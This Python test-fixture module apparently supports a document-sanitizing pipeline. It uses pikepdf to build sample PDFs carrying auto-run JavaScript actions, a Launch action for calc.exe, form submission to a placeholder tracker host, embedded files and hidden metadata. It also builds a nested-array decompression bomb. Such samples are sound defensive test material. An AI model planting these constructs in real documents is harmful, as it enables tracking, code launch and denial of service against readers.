"""PDF documents built with pikepdf, carrying scripts, actions, attachments and metadata."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.intake.evidence_samples import spy_jpeg

SCRIPT = "app.alert('SCRIPTSECRET')"
XMP_SECRET = "XMPDOCUMENTSECRET"


def xmp(secret: str) -> bytes:
    """Return an XMP packet naming `secret` as the creator."""
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>'
        f"{secret}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def _metadata(pdf: pikepdf.Pdf, secret: str) -> pikepdf.Stream:
    return pdf.make_stream(xmp(secret), Type=Name.Metadata, Subtype=Name.XML)


def _script(code: str = SCRIPT) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annotation(pdf: pikepdf.Pdf, subtype: str, **fields: Any) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 50, 50], **fields)
    )


def spy_pdf() -> bytes:
    """Return a PDF with every hiding place an attack run found, and a photo with GPS inside."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0].obj
    photo = pdf.make_stream(
        spy_jpeg(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    photo.Metadata = _metadata(pdf, "XMPIMAGESECRET")
    # A soft mask whose samples are followed by bytes no pixel needs.
    photo.SMask = pdf.make_stream(
        zlib.compress(bytes(64 * 48) + b"TRAILINGSECRET"),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type1,
        BaseFont=Name.Helvetica,
        Metadata=_metadata(pdf, "XMPFONTSECRET"),
    )
    form = pdf.make_stream(
        b"0 0 m 10 10 l S",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 10, 10],
        Metadata=_metadata(pdf, "XMPFORMSECRET"),
        PieceInfo=Dictionary(SpyApp=Dictionary(Private=String("PIECESECRET"))),
    )
    page.Resources = Dictionary(
        XObject=Dictionary(Im0=photo, Fm0=form), Font=Dictionary(F1=pdf.make_indirect(font))
    )
    page.Contents = pdf.make_stream(
        b"q 64 0 0 48 10 10 cm /Im0 Do Q /Fm0 Do BT /F1 12 Tf 10 200 Td (Evidence text) Tj ET"
    )
    page.Metadata = _metadata(pdf, "XMPPAGESECRET")
    page.AA = Dictionary(O=_script())
    page.PieceInfo = Dictionary(SpyApp=Dictionary(Private=String("PIECESECRET")))
    secret_file = pdf.make_stream(b"EMBEDDEDSECRET", Type=Name.EmbeddedFile)
    filespec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("informant.txt"), EF=Dictionary(F=secret_file))
    )
    widget = _annotation(
        pdf,
        "Widget",
        FT=Name.Tx,
        T=String("amount"),
        AA=Dictionary(K=_script()),
        A=Dictionary(S=Name.SubmitForm, F=String("http://tracker.example/submit")),
    )
    page.Annots = Array(
        [
            _annotation(pdf, "Link", A=Dictionary(S=Name.Launch, F=String("C:\\calc.exe"))),
            _annotation(
                pdf, "Link", A=Dictionary(S=Name.URI, URI=String("http://tracker.example/"))
            ),
            _annotation(pdf, "Link", A=Dictionary(S=Name.GoTo, D=[page, Name.Fit], Next=_script())),
            _annotation(pdf, "Link", A=Dictionary(S=Name.ImportData, F=String("data.fdf"))),
            _annotation(pdf, "FileAttachment", FS=filespec),
            _annotation(pdf, "Text", T=String("张三内部员工"), M=String("D:20240301102233+08'00'")),
            _annotation(pdf, "Sound"),
            _annotation(pdf, "Movie"),
            _annotation(pdf, "Screen", A=_script()),
            _annotation(pdf, "RichMedia", RichMediaContent=Dictionary()),
            widget,
        ]
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _script()])),
        EmbeddedFiles=Dictionary(Names=Array([String("informant.txt"), filespec])),
    )
    pdf.Root.OpenAction = _script()
    pdf.Root.AA = Dictionary(WC=_script())
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp>XFASECRET</xdp:xdp>")
    )
    pdf.Root.Metadata = _metadata(pdf, XMP_SECRET)
    pdf.docinfo["/Author"] = "张三内部员工"
    pdf.docinfo["/Producer"] = "SpyOffice"
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_unreferenced_xmp() -> bytes:
    """Return a PDF whose XMP an incremental update unlinked but left in the file."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.Root.Metadata = _metadata(pdf, XMP_SECRET)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    original = out.getvalue()
    start = int(original.rsplit(b"startxref", 1)[1].split()[0])
    with pikepdf.open(io.BytesIO(original)) as reread:
        root, pages, size = reread.Root.objgen[0], reread.Root.Pages.objgen[0], len(reread.objects)
    body = f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R >>\nendobj\n".encode()
    offset = len(original)
    xref = (
        f"xref\n0 1\n0000000000 65535 f \n{root} 1\n{offset:010d} 00000 n \n"
        f"trailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {start} >>\n"
    ).encode()
    return original + body + xref + f"startxref\n{offset + len(body)}\n%%EOF\n".encode()


def pdf_with_image(filter_name: str, data: bytes, **fields: Any) -> bytes:
    """Return a one-page PDF drawing an image stored with the given filter."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0].obj
    image = pdf.make_stream(
        data,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=fields.pop("Width", 16),
        Height=fields.pop("Height", 16),
        ColorSpace=fields.pop("ColorSpace", Name.DeviceGray),
        BitsPerComponent=fields.pop("BitsPerComponent", 8),
        Filter=Name(filter_name),
        **fields,
    )
    page.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.Contents = pdf.make_stream(b"q 100 0 0 100 50 50 cm /Im0 Do Q")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def walk(pdf: pikepdf.Pdf) -> Iterator[tuple[str, Any]]:
    """Yield every (key, value) of every dictionary in the file, nested ones included."""
    stack: list[Any] = [pdf.trailer, *pdf.objects]
    seen: set[tuple[int, int]] = set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in obj.keys():  # noqa: SIM118 (a pikepdf stream iterates its data)
                value = obj.get(key)
                yield key, value
                stack.append(value)
        elif isinstance(obj, pikepdf.Array):
            stack.extend(obj)


def every_stream_text(pdf: pikepdf.Pdf) -> bytes:
    """Return the decoded bytes of every stream the file holds, whether referenced or not."""
    chunks = []
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Stream):
            try:
                chunks.append(obj.read_bytes())
            except pikepdf.PdfError:
                chunks.append(obj.read_raw_bytes())
    return b"\n".join(chunks)


def pdf_with_object_stream_bomb(depth: int = 100_000, padding: int = 1024**3) -> bytes:
    """Return a PDF whose page resources sit in an object stream that nests arrays `depth`
    deep and inflates to more than `padding` bytes (about 1 MB on disk)."""
    from tests.intake.evidence_samples import zlib_zeros

    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 200 200 ] /Resources 5 0 R >>",
    }
    bomb = zlib_zeros(padding, prefix=b"5 0 " + b"[" * depth)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[4] = out.tell()
    out.write(
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(bomb)
    )
    out.write(b"stream\n" + bomb + b"\nendstream\nendobj\n")
    offsets[6] = out.tell()
    entries = b"\x00\x00\x00\x00\x00\xff\xff"
    for number in range(1, 7):
        if number == 5:
            entries += b"\x02" + (4).to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            entries += b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [ 1 4 2 ] /Root 1 0 R /Length %d >>\nstream\n"
        % len(entries)
    )
    out.write(entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
    return out.getvalue()


def plain_pdf() -> bytes:
    """Return a one-page PDF with a line of text and nothing else."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0].obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 10 100 Td (Evidence text) Tj ET")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
